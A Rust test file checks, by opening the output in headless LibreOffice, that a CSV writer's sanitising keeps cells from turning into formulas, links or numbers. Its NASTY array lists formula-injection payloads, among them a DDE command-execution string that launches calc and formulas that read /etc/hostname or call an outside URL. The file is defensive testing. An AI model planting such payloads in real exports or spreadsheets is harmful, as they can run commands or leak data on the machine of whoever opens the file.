//! Rows as CSV, opened in `LibreOffice`.

use std::fs;
use std::path::Path;
use std::process::Command;

use anyhow::{Context, Result, ensure};
use courier_papers::{csv, harmless};
use courier_tests::programs;

/// What a spreadsheet would run, or take for a number, or for the beginning of another cell.
const NASTY: [&str; 26] = [
    "=1+1",
    "+44 7700 900123",
    "+447700900123",
    "-2+3",
    "-5",
    "@SUM(1;2)",
    " =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋44 7700 900123",
    "－5",
    "＠SUM(1)",
    "\u{2212}5",
    "=HYPERLINK(\"https://example.org/?\"&A1;\"here\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"soffice\";\"/etc/hostname\";\"a1\")",
    "=WEBSERVICE(\"https://example.org/\")",
    "harmless;=1+1;\"=1+1",
    "harmless\t=1+1\t=1+1",
    "first\r\n=1+1\n;=1+1",
];
const PLAIN: [&str; 5] = ["Ana Costa", "Łódź — Œuvre", "a, \"b\" = c", "O'Neill", "one\ntwo"];

/// As a person opens it, with our separator and its usual settings said, and with two wrong separators.
const HOW: [Option<&str>; 4] = [
    None,
    Some("CSV:44,34,76,1,,0,false,true,false"),
    Some("CSV:59,34,76,1,,0,false,true,false"),
    Some("CSV:9,34,76,1,,0,false,true,false"),
];

#[test]
fn no_cell_is_run() -> Result<()> {
    let rows: Vec<Vec<String>> =
        NASTY.iter().map(|cell| vec!["Brightwater".to_owned(), (*cell).to_owned()]).collect();
    for how in HOW {
        let sheet = opened(&csv(&rows), how, "fods")?;
        ensure!(!sheet.contains("table:formula"), "{how:?}: a formula in {sheet}");
        ensure!(!sheet.contains("text:a "), "{how:?}: a link in {sheet}");
        ensure!(!sheet.contains("value-type=\"error\""), "{how:?}: {sheet}");
        ensure!(!sheet.contains("value-type=\"float\""), "{how:?}: a number in {sheet}");
    }
    Ok(())
}

#[test]
fn the_same_cells_as_they_came_are_run() -> Result<()> {
    // Or the test above could not fail.
    for how in &HOW[..2] {
        let sheet = opened(b"\"Brightwater\",\"=1+1\"\r\n", *how, "fods")?;
        ensure!(sheet.contains("table:formula=\"of:=1+1\""), "{how:?}: {sheet}");
    }
    let sheet = opened(b"x;=1+1\r\n", HOW[2], "fods")?;
    ensure!(sheet.contains("table:formula=\"of:=1+1\""), "{sheet}");
    Ok(())
}

#[test]
fn every_cell_is_there_as_it_was_written() -> Result<()> {
    let cells: Vec<&str> = PLAIN.into_iter().chain(NASTY).collect();
    let rows: Vec<Vec<String>> =
        cells.iter().map(|cell| vec!["Brightwater".to_owned(), (*cell).to_owned()]).collect();
    let back = opened(&csv(&rows), HOW[1], "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true")?;
    let plain = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
    let back = plain(back.trim_start_matches('\u{feff}'));
    for cell in cells {
        let written = format!("\"Brightwater\",\"{}\"\n", harmless(cell).replace('"', "\"\""));
        ensure!(back.contains(&plain(&written)), "{cell:?} as {written:?} is not in {back}");
    }
    Ok(())
}

/// What `LibreOffice` makes of a CSV file.
fn opened(file: &[u8], how: Option<&str>, into: &str) -> Result<String> {
    let folder = tempfile::tempdir()?;
    let out = folder.path().join("out");
    fs::write(folder.path().join("rows.csv"), file)?;
    let mut soffice = Command::new(programs::find("soffice")?);
    let profile = format!("file://{}", folder.path().join("profile").display());
    soffice
        .arg(format!("-env:UserInstallation={profile}"))
        .args(["--headless", "--norestore", "--convert-to", into, "--outdir"])
        .arg(&out)
        .args(how.map(|how| format!("--infilter={how}")))
        .arg(folder.path().join("rows.csv"))
        .env("HOME", folder.path());
    programs::output(soffice)?;
    let name = format!("rows.{}", into.split(':').next().unwrap_or(into));
    read(&out.join(name))
}

fn read(file: &Path) -> Result<String> {
    let text = fs::read_to_string(file).with_context(|| file.display().to_string())?;
    // What stands before the first row is about looks.
    Ok(match text.split_once("<table:table ") {
        Some((_, table)) => table.to_owned(),
        None => text,
    })
}
